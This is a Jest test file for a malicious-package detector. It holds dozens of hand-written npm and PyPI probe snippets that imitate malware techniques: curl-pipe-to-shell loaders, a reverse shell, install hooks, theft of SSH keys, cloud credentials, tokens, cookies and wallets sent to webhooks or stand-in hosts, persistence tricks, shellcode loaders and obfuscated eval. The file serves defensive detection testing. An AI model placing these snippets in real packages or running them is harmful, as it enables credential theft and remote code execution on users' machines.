import { createRequire } from 'node:module';
import { describe, expect, it } from '@jest/globals';
import { analyzePackage } from '../../../src/analysis/index.js';
import type { Ecosystem } from '../../../src/types.js';

// Hand-written variants of known malware techniques (not copies of samples): each must reach the
// gate. They probe how well detection generalises beyond the corpus; a variant that misses is a
// gap in a technique, to be fixed in the engine, never by special-casing the probe.
const require = createRequire(import.meta.url);
const enc = (t: string) => new TextEncoder().encode(t);
const setup = "from setuptools import setup\nsetup(name='demo')\n";
interface Probe {
  name: string;
  eco: Ecosystem;
  files: Record<string, string>;
}
const py = (name: string, files: Record<string, string>): Probe => ({
  name,
  eco: 'pypi',
  files: { 'demo-1.0/setup.py': setup, ...files },
});
const js = (name: string, pkg: object, files: Record<string, string>): Probe => ({
  name,
  eco: 'npm',
  files: {
    'package/package.json': JSON.stringify({ name: 'demo', version: '1.0.0', ...pkg }),
    ...files,
  },
});
const b64 = (s: string) => Buffer.from(s).toString('base64');
const obf =
  "var _0x3a1b=['\\x65\\x78\\x65\\x63','\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x64\\x6e\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x6e\\x65\\x74\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x3a1b,0x1b3));var _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x3a1b[_0x2d8f05];return _0x4d74cb;};require(_0x4d74('0x1'))[_0x4d74('0x0')](_0x4d74('0x2'));\n";

const probes: Probe[] = [
  js(
    'Reflect.apply exec',
    { main: 'index.js' },
    {
      'package/index.js':
        "const cp=require('child_process');Reflect.apply(cp.exec, null, ['curl https://cdn.example.net/x | sh']);\n",
    },
  ),
  js(
    'exec.call',
    { main: 'index.js' },
    {
      'package/index.js':
        "const cp=require('child_process');cp.execSync.call(null, 'curl https://cdn.example.net/x | sh');\n",
    },
  ),
  py('getattr import os system', {
    'demo-1.0/demo/__init__.py':
      "getattr(__import__('os'), 'system')('curl -s http://45.9.1.2/x | sh')\n",
  }),
  py('builtins exec via __import__', {
    'demo-1.0/demo/__init__.py':
      "import base64\n__import__('builtins').exec(base64.b64decode('cHJpbnQoMSk='))\n",
  }),
  py('python -c decoded', {
    'demo-1.0/demo/__init__.py':
      "import subprocess, base64\ncode = base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaCIp').decode()\nsubprocess.Popen(['python3', '-c', code], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n",
  }),
  py('compile lambda', {
    'demo-1.0/demo/__init__.py':
      "import zlib, base64\nrun = lambda s: eval(compile(zlib.decompress(base64.b64decode(s)), '<x>', 'exec'))\nrun('eJwrKMrMK9EwNNIEAAsXAoY=')\n",
  }),
  py('reverse shell thread', {
    'demo-1.0/demo/__init__.py':
      "import socket, subprocess, threading, os\ndef c():\n    s = socket.socket()\n    s.connect(('203.0.113.9', 4444))\n    while True:\n        cmd = s.recv(1024).decode()\n        s.send(subprocess.check_output(cmd, shell=True))\nthreading.Thread(target=c, daemon=True).start()\n",
  }),
  py('setup cmdclass urlretrieve exe', {
    'demo-1.0/setup.py':
      "import urllib.request, os, tempfile\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        p = os.path.join(tempfile.gettempdir(), 'upd.exe')\n        urllib.request.urlretrieve('https://cdn.example.org/upd.exe', p)\n        os.startfile(p)\n        install.run(self)\nsetup(name='demo', cmdclass={'install': I})\n",
  }),
  py('ssh keys to webhook', {
    'demo-1.0/demo/__init__.py':
      "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://discord.com/api/webhooks/123/abc', json={'content': k})\n",
  }),
  py('dns exfil hostname', {
    'demo-1.0/demo/__init__.py':
      "import socket, getpass, binascii\nh = binascii.hexlify(getpass.getuser().encode()).decode()\nsocket.gethostbyname(h + '.x.oast.fun')\n",
  }),
  py('hex exec', {
    'demo-1.0/demo/__init__.py':
      "exec(bytes.fromhex('7072696e742831293b696d706f7274206f733b6f732e73797374656d282269642229').decode())\n",
  }),
  py('aws creds to raw ip', {
    'demo-1.0/demo/__init__.py':
      "import os, urllib.request\ndata = open(os.path.expanduser('~/.aws/credentials')).read().encode()\nurllib.request.urlopen('http://198.51.100.7:8080/c', data=data)\n",
  }),
  py('pth launcher', {
    'demo-1.0/demo_init.pth':
      "import os; os.system('curl -s https://evil.example/p | python3 &')\n",
  }),
  py('xor loop exec', {
    'demo-1.0/demo/__init__.py':
      "k=7\nd=[110,106,119,104,117,115,39,104,116]\nexec(''.join(chr(c ^ k) for c in d))\n",
  }),
  py('marshal exec', {
    'demo-1.0/demo/__init__.py':
      "import marshal, base64\nexec(marshal.loads(base64.b64decode('YwAAAAAAAAAAAAAAAAAAAAABAAAAQAAAAHMEAAAAZABTACkBTqkAcgEAAAByAQAAAHIBAAAA+gE8bW9kdWxlPgEAAADzAAAAAA==')))\n",
  }),
  py('browser cookies telegram', {
    'demo-1.0/demo/steal.py':
      "import os, requests\ndef go():\n    p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Network', 'Cookies')\n    requests.post('https://api.telegram.org/bot123:abc/sendDocument', files={'document': open(p,'rb')})\n",
  }),
  py('env to http at install', {
    'demo-1.0/setup.py':
      "import os, json, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen(urllib.request.Request('https://a1b2.example.net/x', data=json.dumps(dict(os.environ)).encode()))\nsetup(name='demo')\n",
  }),
  js(
    'postinstall curl sh',
    { scripts: { postinstall: 'curl -s https://evil.example/i.sh | sh' } },
    {},
  ),
  js(
    'postinstall node -e',
    {
      scripts: {
        preinstall: "node -e \"require('child_process').exec('curl http://203.0.113.5/p|bash')\"",
      },
    },
    {},
  ),
  js(
    'new Function atob',
    { main: 'index.js' },
    {
      'package/index.js':
        "new Function(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovL2V2aWwuZXhhbXBsZSB8IHNoIik='))();\n",
    },
  ),
  js(
    'env exfil https',
    { scripts: { postinstall: 'node i.js' } },
    {
      'package/i.js':
        "const https=require('https');const d=JSON.stringify(process.env);const r=https.request({hostname:'x7k2.example.net',method:'POST',path:'/'});r.write(d);r.end();\n",
    },
  ),
  js(
    'dns exfil',
    { scripts: { install: 'node i.js' } },
    {
      'package/i.js':
        "const dns=require('dns');const os=require('os');const h=Buffer.from(os.hostname()+':'+os.userInfo().username).toString('hex');dns.lookup(h+'.x.oast.fun',()=>{});\n",
    },
  ),
  js(
    'download detached spawn',
    { scripts: { postinstall: 'node i.js' } },
    {
      'package/i.js':
        "const https=require('https'),fs=require('fs'),os=require('os'),path=require('path'),cp=require('child_process');const f=path.join(os.tmpdir(),'u');https.get('https://203.0.113.8/u',r=>{r.pipe(fs.createWriteStream(f)).on('finish',()=>{fs.chmodSync(f,0o755);cp.spawn(f,[],{detached:true,stdio:'ignore'}).unref();});});\n",
    },
  ),
  js(
    'npmrc token theft',
    { main: 'index.js' },
    {
      'package/index.js':
        "const fs=require('fs'),os=require('os');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');fetch('https://webhook.site/abc',{method:'POST',body:t});\n",
    },
  ),
  js(
    'obfuscated eval hex',
    { main: 'index.js' },
    {
      'package/index.js':
        "const _0x1=['\\x65\\x76\\x61\\x6c'];global[_0x1[0]](Buffer.from('Y29uc29sZS5sb2coMSk7cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIGh0dHA6Ly8yMDMuMC4xMTMuNC94IHwgc2giKQ==','base64').toString());\n",
    },
  ),
  py('cross-fn fetch exec at import', {
    'demo-1.0/demo/__init__.py':
      "import requests\ndef _get():\n    return requests.get('https://cdn.example.net/s.txt').text\ndef _run(code):\n    exec(code)\n_run(_get())\n",
  }),
  py('import_module concat', {
    'demo-1.0/demo/__init__.py':
      "import importlib\nimportlib.import_module('o'+'s').system('curl https://evil.example/a.sh | bash')\n",
  }),
  py('powershell hidden enc', {
    'demo-1.0/demo/__init__.py':
      "import subprocess\nsubprocess.run(['powershell', '-w', 'hidden', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'])\n",
  }),
  py('clipboard btc swap', {
    'demo-1.0/demo/__init__.py':
      "import pyperclip, re, threading, time\ndef loop():\n    while True:\n        t = pyperclip.paste()\n        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n            pyperclip.copy('bc1qattackeraddress000000000000000')\n        time.sleep(1)\nthreading.Thread(target=loop, daemon=True).start()\n",
  }),
  py('linux autostart desktop', {
    'demo-1.0/demo/__init__.py':
      "import os, urllib.request\np = os.path.expanduser('~/.config/autostart/update.desktop')\nopen(p, 'w').write('[Desktop Entry]\\nExec=python3 ' + os.path.expanduser('~/.u.py') + '\\n')\nopen(os.path.expanduser('~/.u.py'),'w').write(urllib.request.urlopen('https://cdn.example.net/u.py').read().decode())\n",
  }),
  py('discord leveldb tokens', {
    'demo-1.0/demo/grab.py':
      "import os, re, requests\ndef grab():\n    p = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n    toks = []\n    for f in os.listdir(p):\n        toks += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(os.path.join(p, f), errors='ignore').read())\n    requests.post('https://discord.com/api/webhooks/1/x', json={'content': str(toks)})\n",
  }),
  py('writes pth into site-packages', {
    'demo-1.0/setup.py':
      "import site, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        d = site.getsitepackages()[0]\n        open(os.path.join(d, 'zz_hook.pth'), 'w').write(\"import os; os.system('python3 -c \\\"import urllib.request as u; exec(u.urlopen(\\\\'https://cdn.example.net/h\\\\').read())\\\"')\\n\")\nsetup(name='demo', cmdclass={'install': I})\n",
  }),
  py('pip install url at install', {
    'demo-1.0/setup.py':
      "import os\nfrom setuptools import setup\nos.system('pip install https://files.example.net/pkgs/helper-1.0.tar.gz')\nsetup(name='demo')\n",
  }),
  py('bashrc alias sudo', {
    'demo-1.0/demo/__init__.py':
      "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('alias sudo=\"sudo -E python3 ~/.cache/.s.py && sudo\"\\n')\n",
  }),
  py('wallet keystore exfil', {
    'demo-1.0/demo/w.py':
      "import os, glob, requests\ndef run():\n    files = glob.glob(os.path.expanduser('~/.ethereum/keystore/*')) + glob.glob(os.path.join(os.getenv('APPDATA',''), 'Exodus', 'exodus.wallet', '*'))\n    for f in files:\n        requests.post('https://collector.example.net/u', files={'f': open(f, 'rb')})\n",
  }),
  py('shellcode loader ctypes', {
    'demo-1.0/demo/__init__.py':
      "import ctypes, base64\nsc = base64.b64decode('/EiD5PDozAAAAEFRQVBSUVZIMdJlSItSYA==')\nptr = ctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(ptr), sc, len(sc))\nh = ctypes.windll.kernel32.CreateThread(0, 0, ctypes.c_void_p(ptr), 0, 0, 0)\nctypes.windll.kernel32.WaitForSingleObject(h, -1)\n",
  }),
  py('linux mmap shellcode', {
    'demo-1.0/demo/__init__.py':
      "import mmap, ctypes\nbuf = bytes.fromhex('4831c0b03c0f05')\nm = mmap.mmap(-1, len(buf), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(buf)\nf = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\nf()\n",
  }),
  js(
    'https eval response',
    { main: 'index.js' },
    {
      'package/index.js':
        "require('https').get('https://cdn.example.net/s.js', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n",
    },
  ),
  js(
    'exec decoded in main',
    { main: 'index.js' },
    {
      'package/index.js':
        "require('child_process').exec(Buffer.from('Y3VybCAtcyBodHRwczovL2Nkbi5leGFtcGxlLm5ldC94IHwgc2g=', 'base64').toString());\n",
    },
  ),
  js(
    'ssh key read postinstall',
    { scripts: { postinstall: 'node index.js' } },
    {
      'package/index.js':
        "const fs=require('fs'),os=require('os'),https=require('https');const k=fs.readFileSync(os.homedir()+'/.ssh/id_rsa','utf8');const r=https.request('https://collector.example.net/k',{method:'POST'});r.end(k);\n",
    },
  ),
  js(
    'bashrc append',
    { main: 'index.js' },
    {
      'package/index.js':
        "const fs=require('fs'),os=require('os');fs.appendFileSync(os.homedir()+'/.bashrc','\\ncurl -s https://cdn.example.net/p.sh | sh &\\n');\n",
    },
  ),
  js(
    'reg add run key',
    { scripts: { postinstall: 'node i.js' } },
    {
      'package/i.js':
        "require('child_process').execSync('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /d \"%APPDATA%\\\\u.exe\" /f');\n",
    },
  ),
  js(
    'fetch then Function',
    { main: 'index.js' },
    {
      'package/index.js':
        "fetch('https://cdn.example.net/c.js').then(r => r.text()).then(t => new Function(t)());\n",
    },
  ),
  js(
    'axios env post',
    { main: 'index.js' },
    {
      'package/index.js':
        "const axios=require('axios');axios.post('https://x7.example.net/e', {env: process.env, host: require('os').hostname()});\n",
    },
  ),
  py('start /B powershell', {
    'demo-1.0/demo/__init__.py':
      'import os\nos.system(\'start /B powershell -WindowStyle Hidden -c "iwr https://cdn.example.net/a.ps1 | iex"\')\n',
  }),
  py('rot13 exec', {
    'demo-1.0/demo/__init__.py':
      "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))\n",
  }),
  py('etc passwd dns', {
    'demo-1.0/setup.py':
      "import socket, binascii\nfrom setuptools import setup\nd = binascii.hexlify(open('/etc/passwd').read()[:60].encode()).decode()\nsocket.gethostbyname(d[:60] + '.exfil.example.org')\nsetup(name='demo')\n",
  }),
  py('urlretrieve temp call', {
    'demo-1.0/demo/__init__.py':
      "import os, urllib.request, subprocess\np = os.path.join(os.environ['TEMP'], 'svc.exe')\nurllib.request.urlretrieve('https://cdn.example.net/svc.exe', p)\nsubprocess.call([p])\n",
  }),
  py('try dunder import popen', {
    'demo-1.0/setup.py':
      "from setuptools import setup\ntry:\n    __import__('subprocess').Popen(['bash', '-c', 'curl -fsSL https://cdn.example.net/x | bash'])\nexcept Exception:\n    pass\nsetup(name='demo')\n",
  }),
  py('session exec', {
    'demo-1.0/demo/__init__.py':
      "import requests\ns = requests.Session()\nexec(s.get('https://cdn.example.net/p.py').text)\n",
  }),
  py('echo b64 | bash', {
    'demo-1.0/demo/__init__.py':
      "import os\nos.system('echo Y3VybCBodHRwczovL2Nkbi5leGFtcGxlLm5ldC94IHwgc2g= | base64 -d | bash')\n",
  }),
  py('split url pastebin', {
    'demo-1.0/demo/__init__.py':
      "from urllib.request import urlopen\nu = ''.join(['ht', 'tps://pas', 'tebin.com/raw/', 'aB3dE'])\nexec(urlopen(u).read().decode())\n",
  }),
  py('chrome win32crypt smtp', {
    'demo-1.0/demo/c.py':
      "import os, sqlite3, win32crypt, smtplib\ndef go():\n    db = os.path.join(os.environ['LOCALAPPDATA'], 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')\n    rows = sqlite3.connect(db).execute('select origin_url, username_value, password_value from logins').fetchall()\n    out = [(u, n, win32crypt.CryptUnprotectData(p)[1]) for u, n, p in rows]\n    s = smtplib.SMTP('smtp.example.org', 587)\n    s.sendmail('a@example.org', 'b@example.org', str(out))\n",
  }),
  py('dhooks webhook', {
    'demo-1.0/demo/__init__.py':
      "from dhooks import Webhook\nimport os\nWebhook('https://discord.com/api/webhooks/1/x').send(os.getlogin())\n",
  }),
  py('exec compile open', {
    'demo-1.0/demo/__init__.py':
      "import urllib.request, tempfile, os\np = os.path.join(tempfile.gettempdir(), 'x.py')\nurllib.request.urlretrieve('https://cdn.example.net/x.py', p)\nexec(compile(open(p).read(), p, 'exec'))\n",
  }),
  js(
    'zlib inflate eval',
    { main: 'index.js' },
    {
      'package/index.js': `eval(require('zlib').inflateSync(Buffer.from('${require('zlib').deflateSync("require('child_process').execSync('id')").toString('base64')}','base64')).toString());\n`,
    },
  ),
  js(
    'mainModule require',
    { main: 'index.js' },
    {
      'package/index.js':
        "process.mainModule.require('child_process').execSync('curl https://cdn.example.net/x | sh');\n",
    },
  ),
  js(
    'require concat https',
    { scripts: { postinstall: 'node i.js' } },
    {
      'package/i.js':
        "const h=require('ht'+'tps');const os=require('os');h.get('https://x.example.net/?u='+os.userInfo().username+'&h='+os.hostname());\n",
    },
  ),
  js(
    'node -e eval b64',
    {
      scripts: {
        postinstall: `node -e "eval(Buffer.from('${b64("require('child_process').exec('id')")}','base64').toString())"`,
      },
    },
    {},
  ),
  js(
    'vm runInThisContext net',
    { main: 'index.js' },
    {
      'package/index.js':
        "const vm=require('vm');require('https').get('https://cdn.example.net/c.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>vm.runInThisContext(d));});\n",
    },
  ),
  js(
    'aws creds post',
    { main: 'index.js' },
    {
      'package/index.js':
        "const fs=require('fs'),path=require('path'),os=require('os');const c=fs.readFileSync(path.join(os.homedir(),'.aws','credentials'),'utf8');require('https').request({host:'x.example.net',method:'POST'}).end(c);\n",
    },
  ),
  js(
    'preinstall powershell enc',
    {
      scripts: {
        preinstall: 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
      },
    },
    {},
  ),
  js(
    'obfuscator.io postinstall',
    { scripts: { postinstall: 'node setup.js' } },
    { 'package/setup.js': obf },
  ),
  js('obfuscator.io main', { main: 'index.js' }, { 'package/index.js': obf }),
  js(
    'computed exec member',
    { main: 'index.js' },
    {
      'package/index.js':
        "require('child_process')['ex'+'ec']('curl https://cdn.example.net/x | sh');\n",
    },
  ),
  js(
    'websocket eval C2',
    { main: 'index.js' },
    {
      'package/index.js':
        "const WebSocket=require('ws');const w=new WebSocket('wss://c2.example.net/s');w.on('message',m=>eval(m.toString()));\n",
    },
  ),
  js(
    'github token env post',
    { scripts: { postinstall: 'node i.js' } },
    {
      'package/i.js':
        "fetch('https://x.example.net/t',{method:'POST',body:JSON.stringify({t:process.env.GITHUB_TOKEN,n:process.env.NPM_TOKEN})});\n",
    },
  ),
  js(
    'tmp script write and run',
    { scripts: { postinstall: 'node i.js' } },
    {
      'package/i.js':
        "const fs=require('fs'),cp=require('child_process');fs.writeFileSync('/tmp/.u.sh','#!/bin/sh\\ncurl -s https://cdn.example.net/p -o /tmp/.p && chmod +x /tmp/.p && /tmp/.p &\\n');cp.execSync('sh /tmp/.u.sh');\n",
    },
  ),
  js(
    'dns txt C2',
    { main: 'index.js' },
    {
      'package/index.js':
        "require('dns').resolveTxt('cmd.c2.example.net',(e,r)=>{if(!e)require('child_process').exec(r[0].join(''));});\n",
    },
  ),
  py('tmp script write and run', {
    'demo-1.0/demo/__init__.py':
      "import os\nwith open('/tmp/.u.sh', 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s https://cdn.example.net/p -o /tmp/.p && chmod +x /tmp/.p && /tmp/.p &\\n')\nos.system('sh /tmp/.u.sh')\n",
  }),
  py('github token env post', {
    'demo-1.0/demo/__init__.py':
      "import os, requests\nrequests.post('https://x.example.net/t', json={'t': os.environ.get('GITHUB_TOKEN'), 'a': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n",
  }),
  py('socket C2 exec', {
    'demo-1.0/demo/__init__.py':
      "import socket, threading\ndef loop():\n    s = socket.create_connection(('c2.example.net', 443))\n    while True:\n        exec(s.recv(65536).decode())\nthreading.Thread(target=loop, daemon=True).start()\n",
  }),
  py('telegram getUpdates exec', {
    'demo-1.0/demo/__init__.py':
      "import requests, subprocess\nT='https://api.telegram.org/bot123456:ABC/'\ndef poll():\n    for u in requests.get(T+'getUpdates').json()['result']:\n        subprocess.Popen(u['message']['text'], shell=True)\npoll()\n",
  }),
];

describe('technique probes', () => {
  it.each(probes.map((p) => [`${p.eco}: ${p.name}`, p] as [string, Probe]))(
    '%s reaches the gate',
    async (_name, probe) => {
      const files = Object.entries(probe.files).map(([path, t]) => ({
        path,
        data: enc(t),
        size: enc(t).length,
      }));
      const findings = await analyzePackage({
        ecosystem: probe.eco,
        name: 'demo',
        version: '1.0.0',
        files,
      });
      const gating = findings.filter((f) => f.severity === 'high' || f.severity === 'critical');
      expect(gating.map((f) => `${f.severity} ${f.rule}`)).not.toEqual([]);
    },
  );
});
